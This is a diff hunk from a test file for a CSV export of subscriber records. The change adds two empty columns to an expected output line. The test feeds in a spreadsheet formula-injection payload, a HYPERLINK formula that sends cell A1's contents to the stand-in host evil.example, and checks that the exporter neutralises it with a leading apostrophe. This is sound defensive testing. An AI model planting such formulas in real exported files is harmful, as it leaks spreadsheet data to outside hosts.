@@ -44,7 +44,7 @@ describe('subscribers export: CSV injection', () => {
     const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
     const line = exportLine({ ...base, name: evil });
     expect(line).toBe(
-      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,2026-11-29T10:00:00.000Z,`,
+      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,,,2026-11-29T10:00:00.000Z,`,
     );
     const { record, row } = roundTrip({ ...base, name: evil });
     expect(record?.name).toBe(`'${evil}`);
